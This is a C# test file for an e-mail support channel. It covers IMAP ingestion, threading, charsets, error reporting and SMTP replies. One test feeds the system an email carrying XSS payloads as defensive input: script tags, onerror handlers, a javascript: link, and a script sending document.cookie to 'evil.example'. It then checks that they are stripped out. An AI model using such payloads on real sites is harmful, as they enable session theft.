using System.Net;
using System.Net.Http.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;
using Rapport.Channels;
using Rapport.Channels.Email;
using Rapport.Conversations;
using Rapport.Outbox;
using Rapport.Tests.Infrastructure;

namespace Rapport.Tests;

/// <summary>The e-mail channel against real dovecot (IMAP) and OpenSMTPD (SMTP) on loopback, started by ./test.sh.</summary>
public class EmailTests
{
    // ISO-8859-1 in 8 bits: the é below are single bytes (0xE9) on the wire, and the subject is an encoded word.
    private const string FrenchLatin1 = """
        From: =?ISO-8859-1?Q?Julie_Dupr=E9?= <julie@example.test>
        To: Vélo Vert <support@example.test>
        Subject: =?ISO-8859-1?Q?V=E9lo_livr=E9_cass=E9?=
        Date: Mon, 23 Nov 2026 10:15:00 +0100
        Message-ID: <fr-1@client.example.test>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=ISO-8859-1
        Content-Transfer-Encoding: 8bit

        Bonjour,

        Mon vélo est arrivé avec le dérailleur cassé. Pouvez-vous m'envoyer une pièce de rechange ?

        Julie

        Le lun. 16 nov. 2026 à 09:00, Vélo Vert <support@example.test> a écrit :
        > Votre commande 4411 est expédiée.
        """;

    private const string FrenchReply = """
        From: Julie Dupré <julie@example.test>
        To: support@example.test
        Subject: Re: Vélo livré cassé
        Date: Mon, 23 Nov 2026 11:40:00 +0100
        Message-ID: <fr-2@client.example.test>
        In-Reply-To: <fr-1@client.example.test>
        References: <fr-1@client.example.test>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=ISO-8859-1
        Content-Transfer-Encoding: quoted-printable

        J'ajoute une photo du d=E9railleur, c'est tr=E8s urgent.

        > Bonjour,
        > Mon v=E9lo est arriv=E9 avec le d=E9railleur cass=E9.
        """;

    // HTML only, in windows-1252 (0x92 is its apostrophe), with Gmail's quoted history and a photo attached.
    private const string EnglishHtml = """
        From: Sam Taylor <Sam.Taylor@Example.test>
        To: support@example.test
        Subject: Broken chain
        Date: Sun, 22 Nov 2026 18:00:00 +0000
        Message-ID: <en-1@client.example.test>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="b1"

        --b1
        Content-Type: text/html; charset=windows-1252
        Content-Transfer-Encoding: 8bit

        <html><head><title>Mail</title><style>p { color: red; }</style></head><body>
        <p>Hello,</p><p>My bike arrived with a <b>broken chain</b> and it isnt rideable. Can you send a new one?</p>
        <div class="gmail_quote"><div>On Mon, Nov 16, 2026 at 9:00 AM Green Wheels &lt;support@example.test&gt; wrote:</div>
        <blockquote>Your order 7781 has shipped.</blockquote></div></body></html>
        --b1
        Content-Type: image/jpeg; name="chain.jpg"
        Content-Disposition: attachment; filename="chain.jpg"
        Content-Transfer-Encoding: base64

        /9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0a
        --b1--
        """;

    private const string AutoReply = """
        From: Out of office <ooo@example.test>
        To: support@example.test
        Subject: Absent until Monday
        Date: Mon, 23 Nov 2026 10:16:00 +0100
        Message-ID: <ooo-1@client.example.test>
        Auto-Submitted: auto-replied
        Content-Type: text/plain; charset=utf-8

        I am out of the office until Monday.
        """;

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Poll_FrenchLatin1AndEnglishHtml_BecomeThreadedConversations_AndRepollAddsNothing(string provider)
    {
        var folder = await MailServers.NewFolderAsync();
        await MailServers.AppendAsync(folder, MailServers.Parse(FrenchLatin1), MailServers.Parse(EnglishHtml.Replace("isnt", "isn\u0092t", StringComparison.Ordinal)),
            MailServers.Parse(AutoReply), MailServers.Parse(FrenchReply));
        await using var factory = NewFactory(provider);
        var (_, workspace) = await factory.CreateOwnerAsync();
        var channel = await CreateEmailChannelAsync(factory, workspace.Id, folder);
        var poller = Poller(factory);

        var result = await poller.PollAsync(channel.Id);

        Assert.True(result.Ok, result.Error);
        Assert.Equal(3, result.Ingested);
        var skipped = Assert.Single(result.Skipped);
        Assert.Equal("ooo-1@client.example.test", skipped.MessageId);
        Assert.Contains("Auto-Submitted: auto-replied", skipped.Reason, StringComparison.Ordinal);
        await using (var db = factory.OpenDb())
        {
            var conversations = await db.Conversations.OrderBy(c => c.CreatedAt).ToListAsync();
            Assert.Equal(2, conversations.Count);
            var all = await db.Messages.ToListAsync();

            var english = conversations[0];
            Assert.Equal("Broken chain", english.Subject);
            var sam = Assert.Single(all, m => m.ConversationId == english.Id);
            Assert.Equal("en-1@client.example.test", sam.ExternalId);
            Assert.Equal("Sam Taylor", sam.AuthorName);
            Assert.Equal(new DateTime(2026, 11, 22, 18, 0, 0, DateTimeKind.Utc), sam.CreatedAt);
            Assert.StartsWith("Hello,\n\nMy bike arrived with a broken chain and it isn\u2019t rideable. Can you send a new one?", sam.Text, StringComparison.Ordinal);
            // The photo is kept as a file of the message, shown as a download beside the text rather than in it.
            Assert.DoesNotContain("📎", sam.Text, StringComparison.Ordinal);
            var chain = await db.MessageAttachments.SingleAsync(a => a.MessageId == sam.Id);
            Assert.Equal(("chain.jpg", "image/jpeg", 57L, 57), (chain.FileName, chain.ContentType, chain.Size, chain.Content!.Length));
            Assert.Equal([0xFF, 0xD8, 0xFF, 0xE0], chain.Content[..4]);
            Assert.DoesNotContain("<", sam.Text, StringComparison.Ordinal);
            Assert.DoesNotContain("color", sam.Text, StringComparison.Ordinal);
            Assert.DoesNotContain("shipped", sam.Text, StringComparison.Ordinal);
            Assert.Contains("Message-ID: <en-1@client.example.test>", sam.RawPayload, StringComparison.Ordinal);
            var identity = await db.ContactIdentities.SingleAsync(i => i.ContactId == english.ContactId);
            Assert.Equal("sam.taylor@example.test", identity.Handle);

            var french = conversations[1];
            Assert.Equal("Vélo livré cassé", french.Subject);
            Assert.Equal("fr-1@client.example.test", french.ExternalThreadId);
            var messages = all.Where(m => m.ConversationId == french.Id).OrderBy(m => m.CreatedAt).ToList();
            Assert.Equal(["fr-1@client.example.test", "fr-2@client.example.test"], messages.Select(m => m.ExternalId));
            Assert.Equal("Julie Dupré", messages[0].AuthorName);
            Assert.Equal("Bonjour,\n\nMon vélo est arrivé avec le dérailleur cassé. Pouvez-vous m'envoyer une pièce de rechange ?\n\nJulie", messages[0].Text);
            Assert.Equal("J'ajoute une photo du dérailleur, c'est très urgent.", messages[1].Text);
            Assert.Equal("fr-1@client.example.test", messages[1].InReplyToExternalId);
            Assert.Equal(new DateTime(2026, 11, 23, 9, 15, 0, DateTimeKind.Utc), messages[0].CreatedAt);
            Assert.Equal("fr", (await db.MessageAnalyses.SingleAsync(a => a.MessageId == messages[0].Id)).Language);
        }

        // Polled again: nothing new. The folder recreated (UIDVALIDITY changed): read again, still nothing twice.
        Assert.Equal(0, (await poller.PollAsync(channel.Id)).Ingested);
        await using (var db = factory.OpenDb())
        {
            var stored = await db.Channels.SingleAsync(c => c.Id == channel.Id);
            Assert.Contains("\"lastUid\":4", stored.State, StringComparison.Ordinal);
            stored.State = $$"""{"folder":"{{folder}}","uidValidity":1,"lastUid":99}""";
            await db.SaveChangesAsync();
        }
        var reread = await poller.PollAsync(channel.Id);
        Assert.True(reread.Ok, reread.Error);
        Assert.Equal(0, reread.Ingested);
        await using (var db = factory.OpenDb())
        {
            Assert.Equal(3, await db.Messages.CountAsync());
            var stored = await db.Channels.SingleAsync(c => c.Id == channel.Id);
            Assert.NotNull(stored.LastPolledAt);
            Assert.Null(stored.LastError);
        }
    }

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Poll_HostileHtmlAndOversizedEmail_BecomePlainTextAndANote(string provider)
    {
        var folder = await MailServers.NewFolderAsync();
        var hostile = new MimeMessage { MessageId = "evil-1@example.test", Subject = "<script>alert(1)</script>Refund" };
        hostile.From.Add(new MailboxAddress("Eve <img src=x onerror=alert(2)>", "eve@example.test"));
        hostile.Body = new TextPart("html")
        {
            Text = "<p>Please click <a href=\"javascript:alert(3)\">here</a></p><script>document.location='https://evil.example/'+document.cookie</script>"
                + "<img src=x onerror=\"alert(4)\"><iframe src=\"https://evil.example\"></iframe><!-- <script>alert(5)</script> --><p>Thanks &amp; bye</p>",
        };
        var big = new MimeMessage { MessageId = "big-1@example.test", Subject = "Photos of the damage" };
        big.From.Add(new MailboxAddress("Noah", "noah@example.test"));
        var photo = new MimePart("image", "jpeg") { FileName = "damage.jpg", Content = new MimeContent(new MemoryStream(new byte[8000])), ContentTransferEncoding = ContentEncoding.Base64 };
        big.Body = new Multipart("mixed") { new TextPart("plain") { Text = "The frame is bent, see the photos." }, photo };
        // No From, Date or Message-ID, an unknown charset, a multipart without its boundary, a broken encoded word.
        var malformed = MailServers.Parse("""
            Subject: =?x-unknown?B?not base64!?= Order
            Content-Type: multipart/mixed
            Content-Transfer-Encoding: 8bit

            --nowhere
            Content-Type: text/plain; charset=x-unknown

            Where is order 5512?
            """);
        await MailServers.AppendAsync(folder, hostile, big, malformed);
        await using var factory = NewFactory(provider, s => s["Rapport:Email:MaxMessageBytes"] = "4096");
        var (_, workspace) = await factory.CreateOwnerAsync();
        var channel = await CreateEmailChannelAsync(factory, workspace.Id, folder);

        var result = await Poller(factory).PollAsync(channel.Id);

        Assert.True(result.Ok, result.Error);
        Assert.Equal(3, result.Ingested);
        await using (var reset = factory.OpenDb())
        {
            // Read again from the start (as after a lost state): the made-up id of the e-mail without a Message-ID is stable.
            var stored = await reset.Channels.SingleAsync(c => c.Id == channel.Id);
            stored.State = "{}";
            await reset.SaveChangesAsync();
        }
        Assert.Equal(0, (await Poller(factory).PollAsync(channel.Id)).Ingested);
        await using var db = factory.OpenDb();
        var odd = await db.Messages.SingleAsync(m => m.ExternalId!.StartsWith("sha256:"));
        Assert.Contains("Where is order 5512?", odd.Text, StringComparison.Ordinal);
        Assert.Equal("unknown sender", (await db.ContactIdentities.SingleAsync(i => i.ContactId == odd.AuthorContactId)).Handle);
        var evil = await db.Messages.SingleAsync(m => m.ExternalId == "evil-1@example.test");
        Assert.Equal("Please click here\n\nThanks & bye", evil.Text);
        var large = await db.Messages.SingleAsync(m => m.ExternalId == "big-1@example.test");
        Assert.StartsWith("The frame is bent, see the photos.\n\n📎 damage.jpg (", large.Text, StringComparison.Ordinal);
        Assert.Contains("over the 4 KB Rapport reads: only its text was read; the attachments stay in the mailbox.", large.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("Content-Transfer-Encoding: base64", large.RawPayload, StringComparison.Ordinal);
        var listed = await db.MessageAttachments.SingleAsync(a => a.MessageId == large.Id);
        Assert.Equal(("damage.jpg", null), (listed.FileName, listed.Content));
        Assert.Contains("not kept", listed.NotKeptReason, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Poll_WrongPasswordOrServerDown_SaysWhyOnTheChannel_OthersKeepWorking_NothingLost(string provider)
    {
        var folder = await MailServers.NewFolderAsync();
        await MailServers.AppendAsync(folder, MailServers.Parse(FrenchLatin1));
        await using var factory = NewFactory(provider);
        var (owner, workspace) = await factory.CreateOwnerAsync();
        var (host, port) = MailServers.Imap;
        var wrong = await CreateEmailChannelAsync(factory, workspace.Id, folder, password: "not-the-password", name: "Wrong password");
        var down = await CreateEmailChannelAsync(factory, workspace.Id, folder, imapPort: MailServers.ClosedPort(), name: "Down");
        var tls = await CreateEmailChannelAsync(factory, workspace.Id, folder, security: MailSecurity.SslOnConnect, name: "TLS on a plain port");
        var good = await CreateEmailChannelAsync(factory, workspace.Id, folder, name: "Good");
        var garbled = await factory.CreateChannelAsync(workspace.Id, ChannelKind.Email, "Garbled settings");
        await using (var db = factory.OpenDb())
        {
            (await db.Channels.SingleAsync(c => c.Id == garbled.Id)).Settings = """{"imapHost": "127.0.0.1", "imapSecurity": "Sometimes"}""";
            await db.SaveChangesAsync();
        }

        var results = await factory.Services.GetRequiredService<EmailWorker>().RunOnceAsync();

        Assert.Equal(5, results.Count);
        Assert.True(results.Single(r => r.ChannelId == good.Id).Ok);
        await using (var db = factory.OpenDb())
        {
            var channels = await db.Channels.ToDictionaryAsync(c => c.Id);
            Assert.Equal($"The IMAP server {host}:{port} refused the user name or password: check them in the channel's settings.", channels[wrong.Id].LastError);
            Assert.StartsWith($"Could not connect to the IMAP server {host}:", channels[down.Id].LastError, StringComparison.Ordinal);
            Assert.EndsWith("the connection was refused (is the server up, and is the port right?).", channels[down.Id].LastError, StringComparison.Ordinal);
            Assert.StartsWith($"The secure connection to the IMAP server {host}:{port} failed", channels[tls.Id].LastError, StringComparison.Ordinal);
            Assert.Equal("The channel's e-mail settings could not be read at \"imapSecurity\": ports are numbers and the TLS modes are None, StartTls or SslOnConnect.",
                channels[garbled.Id].LastError);
            Assert.Null(channels[good.Id].LastError);
            Assert.All(new[] { wrong, down, tls }, c => Assert.NotNull(channels[c.Id].LastErrorAt));
            Assert.Equal(1, await db.Messages.CountAsync(m => m.ChannelId == good.Id));
        }

        // "Test the connection" says the same; once the password is fixed, the e-mail waiting in the mailbox comes in.
        var admin = await factory.SignedInClientAsync(owner.Email!);
        var url = $"/api/v1/workspaces/{workspace.Id}/channels/{wrong.Id}";
        var failedTest = await (await admin.PostAsync(url + "/test", null)).Content.ReadFromJsonAsync<ChannelTestResult>(Json.Options);
        Assert.False(failedTest!.Ok);
        Assert.Contains("refused the user name or password", failedTest.Error, StringComparison.Ordinal);
        var patched = await admin.PatchAsJsonAsync(url, new { secrets = new Dictionary<string, string> { ["password"] = MailServers.Password } });
        Assert.Equal(HttpStatusCode.OK, patched.StatusCode);
        var test = await (await admin.PostAsync(url + "/test", null)).Content.ReadFromJsonAsync<ChannelTestResult>(Json.Options);
        Assert.True(test!.Ok, test.Error);
        Assert.Equal($"Signed in to the IMAP server {host}:{port}; the folder {folder} holds 1 e-mails. The SMTP server {MailServers.Smtp.Host}:{MailServers.Smtp.Port} accepted the connection.", test.Detail);
        var fixedPoll = await Poller(factory).PollAsync(wrong.Id);
        Assert.True(fixedPoll.Ok, fixedPoll.Error);
        Assert.Equal(1, fixedPoll.Ingested);
        await using (var db = factory.OpenDb())
        {
            Assert.Null((await db.Channels.SingleAsync(c => c.Id == wrong.Id)).LastError);
        }

        // An analyst cannot test a channel; another workspace's channel is not found.
        var analyst = await factory.TokenClientAsync(workspace.Id, Workspaces.Role.Analyst);
        Assert.Equal(HttpStatusCode.Forbidden, (await analyst.PostAsync(url + "/test", null)).StatusCode);
        var (_, other) = await factory.CreateOwnerAsync(workspaceName: "Other");
        var stranger = await factory.TokenClientAsync(other.Id, Workspaces.Role.Owner);
        Assert.Equal(HttpStatusCode.NotFound, (await stranger.PostAsync($"/api/v1/workspaces/{other.Id}/channels/{wrong.Id}/test", null)).StatusCode);
    }

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Reply_GoesOutThroughSmtpThreaded_IsReadBackFromTheMailbox_AndTheAnswerToItThreads(string provider)
    {
        var folder = await MailServers.NewFolderAsync();
        var customer = $"julie-{Guid.NewGuid():N}@example.test";
        await MailServers.AppendAsync(folder, MailServers.Parse(FrenchLatin1.Replace("julie@example.test", customer, StringComparison.Ordinal)));
        await using var factory = NewFactory(provider);
        var (owner, workspace) = await factory.CreateOwnerAsync();
        var channel = await CreateEmailChannelAsync(factory, workspace.Id, folder);
        Assert.Equal(1, (await Poller(factory).PollAsync(channel.Id)).Ingested);
        var agent = await factory.SignedInClientAsync(owner.Email!);
        Guid conversationId;
        await using (var db = factory.OpenDb())
        {
            conversationId = (await db.Conversations.SingleAsync()).Id;
        }

        var reply = await agent.PostAsJsonAsync($"/api/v1/workspaces/{workspace.Id}/conversations/{conversationId}/replies",
            new { text = "Bonjour Julie,\n\nUne pièce neuve part aujourd'hui. Désolés pour ce désagrément !" });
        Assert.Equal(HttpStatusCode.Accepted, reply.StatusCode);
        var queued = (await reply.Content.ReadFromJsonAsync<ReplyResponse>(Json.Options))!;
        Assert.Equal(1, await factory.Services.GetRequiredService<OutboxWorker>().RunOnceAsync());

        string messageId;
        await using (var db = factory.OpenDb())
        {
            var sent = await db.Messages.SingleAsync(m => m.Id == queued.MessageId);
            Assert.Equal(DeliveryStatus.Sent, sent.DeliveryStatus);
            messageId = sent.ExternalId!;
            var item = await db.OutboxItems.SingleAsync(o => o.MessageId == queued.MessageId);
            Assert.Equal($"{item.IdempotencyKey}@example.test", messageId);
        }
        var delivered = await MailServers.WaitForDeliveryAsync(messageId);
        Assert.Equal("Re: Vélo livré cassé", delivered.Subject);
        Assert.Equal("fr-1@client.example.test", delivered.InReplyTo);
        Assert.Equal(["fr-1@client.example.test"], delivered.References);
        Assert.Equal(customer, delivered.To.Mailboxes.Single().Address);
        Assert.Equal("Julie Dupré", delivered.To.Mailboxes.Single().Name);
        Assert.Equal(MailServers.User, delivered.From.Mailboxes.Single().Address);
        Assert.Equal("Bonjour Julie,\n\nUne pièce neuve part aujourd'hui. Désolés pour ce désagrément !", delivered.TextBody!.ReplaceLineEndings("\n").TrimEnd());

        // Julie answers the reply from her mail client: it joins the same conversation.
        var answer = new MimeMessage { MessageId = "fr-3@client.example.test", Subject = "Re: Vélo livré cassé", InReplyTo = messageId };
        answer.References.Add("fr-1@client.example.test");
        answer.References.Add(messageId);
        answer.From.Add(new MailboxAddress("Julie Dupré", customer));
        answer.Body = new TextPart("plain") { Text = "Merci beaucoup !" };
        await MailServers.AppendAsync(folder, answer);
        Assert.Equal(1, (await Poller(factory).PollAsync(channel.Id)).Ingested);
        await using (var db = factory.OpenDb())
        {
            var conversation = await db.Conversations.SingleAsync();
            Assert.Equal(3, await db.Messages.CountAsync(m => m.ConversationId == conversation.Id));
            Assert.Equal(messageId, (await db.Messages.SingleAsync(m => m.ExternalId == "fr-3@client.example.test")).InReplyToExternalId);
        }
    }

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Reply_RefusedWith5xx_FailsWithTheReason_ServerDown_IsRetried(string provider)
    {
        var folder = await MailServers.NewFolderAsync();
        await MailServers.AppendAsync(folder, MailServers.Parse(FrenchLatin1.Replace("julie@example.test", "julie@elsewhere.invalid", StringComparison.Ordinal)),
            MailServers.Parse(EnglishHtml));
        await using var factory = NewFactory(provider);
        var (owner, workspace) = await factory.CreateOwnerAsync();
        var channel = await CreateEmailChannelAsync(factory, workspace.Id, folder);
        Assert.Equal(2, (await Poller(factory).PollAsync(channel.Id)).Ingested);
        var agent = await factory.SignedInClientAsync(owner.Email!);
        List<Conversation> conversations;
        await using (var db = factory.OpenDb())
        {
            conversations = await db.Conversations.OrderBy(c => c.Subject).ToListAsync();
        }

        var refused = await ReplyAsync(agent, workspace.Id, conversations.Single(c => c.Subject == "Vélo livré cassé").Id, "Bonjour !");
        await factory.Services.GetRequiredService<OutboxWorker>().RunOnceAsync();
        await using (var db = factory.OpenDb())
        {
            var message = await db.Messages.SingleAsync(m => m.Id == refused);
            Assert.Equal(DeliveryStatus.Failed, message.DeliveryStatus);
            Assert.StartsWith($"The SMTP server {MailServers.Smtp.Host}:{MailServers.Smtp.Port} answered 550:", message.DeliveryError, StringComparison.Ordinal);
            Assert.Contains("Invalid recipient", message.DeliveryError, StringComparison.Ordinal);
            Assert.Equal(OutboxStatus.Failed, (await db.OutboxItems.SingleAsync(o => o.MessageId == refused)).Status);

            // The SMTP server goes down: the next reply waits in the outbox to be tried again.
            var stored = await db.Channels.SingleAsync(c => c.Id == channel.Id);
            stored.Settings = stored.Settings.Replace($"\"smtpPort\":{MailServers.Smtp.Port}", $"\"smtpPort\":{MailServers.ClosedPort()}", StringComparison.Ordinal);
            await db.SaveChangesAsync();
        }
        var waiting = await ReplyAsync(agent, workspace.Id, conversations.Single(c => c.Subject == "Broken chain").Id, "Hello Sam!");
        await factory.Services.GetRequiredService<OutboxWorker>().RunOnceAsync();
        await using (var db = factory.OpenDb())
        {
            var item = await db.OutboxItems.SingleAsync(o => o.MessageId == waiting);
            Assert.Equal((OutboxStatus.Pending, 1), (item.Status, item.Attempts));
            Assert.Contains("the connection was refused", item.LastError, StringComparison.Ordinal);
            Assert.Equal(DeliveryStatus.Queued, (await db.Messages.SingleAsync(m => m.Id == waiting)).DeliveryStatus);
        }
    }

    [Theory]
    [MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Idle_NewEmail_IsReadAsSoonAsTheServerAnnouncesIt(string provider)
    {
        var folder = await MailServers.NewFolderAsync();
        await using var factory = NewFactory(provider);
        var (_, workspace) = await factory.CreateOwnerAsync();
        var channel = await CreateEmailChannelAsync(factory, workspace.Id, folder);
        var idle = factory.Services.GetRequiredService<EmailIdleWorker>();
        try
        {
            await idle.WatchChannelsAsync(CancellationToken.None);
            // The watch reads the mailbox once, then waits in IDLE; the polling worker is off in these tests.
            await EventuallyAsync(factory, async db => (await db.Channels.SingleAsync(c => c.Id == channel.Id)).LastPolledAt is not null);
            await MailServers.AppendAsync(folder, MailServers.Parse(FrenchLatin1));
            await EventuallyAsync(factory, async db => await db.Messages.AnyAsync(m => m.ExternalId == "fr-1@client.example.test"));
        }
        finally
        {
            await idle.StopWatchingAsync();
        }
    }

    /// <summary>Waits (up to 30 s) for something the IDLE connection does in the background.</summary>
    private static async Task EventuallyAsync(RapportFactory factory, Func<Rapport.Data.RapportDbContext, Task<bool>> done)
    {
        for (var attempt = 0; attempt < 300; attempt++)
        {
            await using (var db = factory.OpenDb())
            {
                if (await done(db))
                {
                    return;
                }
            }
            await Task.Delay(100);
        }
        Assert.Fail("The IDLE watch did not read the mailbox within 30 seconds.");
    }

    [Theory]
    [InlineData("Thanks!\n\nOn Mon, Nov 16, 2026 at 9:00 AM Green Wheels <support@example.test>\nwrote:\n> old", "Thanks!")]
    [InlineData("Merci\n\nLe lun. 16 nov. 2026 à 09:00, Vélo Vert a écrit :\n> ancien", "Merci")]
    [InlineData("See below\n\n________________________________\nDe : Vélo Vert <support@example.test>\nEnvoyé : lundi 16 novembre 2026 09:00\nObjet : Commande", "See below")]
    [InlineData("Yes\n\n-----Original Message-----\nFrom: x", "Yes")]
    [InlineData("> quoted question\nMy answer\n> another\nSecond answer", "My answer\nSecond answer")]
    [InlineData("On second thought, never mind.", "On second thought, never mind.")]
    [InlineData("> only a quote", "> only a quote")]
    public void Quotes_RecognisableHistoryIsTrimmed(string text, string expected) => Assert.Equal(expected, EmailQuotes.Trim(text));

    private static RapportFactory NewFactory(string provider, Action<IDictionary<string, string?>>? settings = null) => new(provider, s =>
    {
        s["Rapport:Email:CheckEvery"] = "00:00:00";
        s["Rapport:Email:Idle"] = "false";
        s["Rapport:Email:Timeout"] = "00:00:10";
        s["Rapport:Outbox:PollInterval"] = "00:00:00";
        settings?.Invoke(s);
    });

    private static EmailPoller Poller(RapportFactory factory) => factory.Services.CreateScope().ServiceProvider.GetRequiredService<EmailPoller>();

    private static async Task<Guid> ReplyAsync(HttpClient agent, Guid workspaceId, Guid conversationId, string text)
    {
        var response = await agent.PostAsJsonAsync($"/api/v1/workspaces/{workspaceId}/conversations/{conversationId}/replies", new { text });
        Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
        return (await response.Content.ReadFromJsonAsync<ReplyResponse>(Json.Options))!.MessageId;
    }

    /// <summary>An e-mail channel on the test servers, made through the API as an admin would.</summary>
    internal static async Task<ChannelDto> CreateEmailChannelAsync(
        RapportFactory factory, Guid workspaceId, string folder, string? password = null, int? imapPort = null, MailSecurity security = MailSecurity.None, string name = "Support")
    {
        var owner = await factory.TokenClientAsync(workspaceId, Workspaces.Role.Admin);
        var (imapHost, port) = MailServers.Imap;
        var (smtpHost, smtpPort) = MailServers.Smtp;
        var response = await owner.PostAsJsonAsync($"/api/v1/workspaces/{workspaceId}/channels", new
        {
            name,
            kind = "Email",
            direction = "Inbox",
            settings = new
            {
                imapHost,
                imapPort = imapPort ?? port,
                imapSecurity = security.ToString(),
                username = MailServers.User,
                folder,
                smtpHost,
                smtpPort,
                smtpSecurity = "None",
                fromName = "Vélo Vert",
            },
            secrets = new Dictionary<string, string> { ["password"] = password ?? MailServers.Password },
        }, Json.Options);
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var channel = (await response.Content.ReadFromJsonAsync<ChannelDto>(Json.Options))!;
        Assert.Equal(["password"], channel.SecretNames);
        return channel;
    }
}
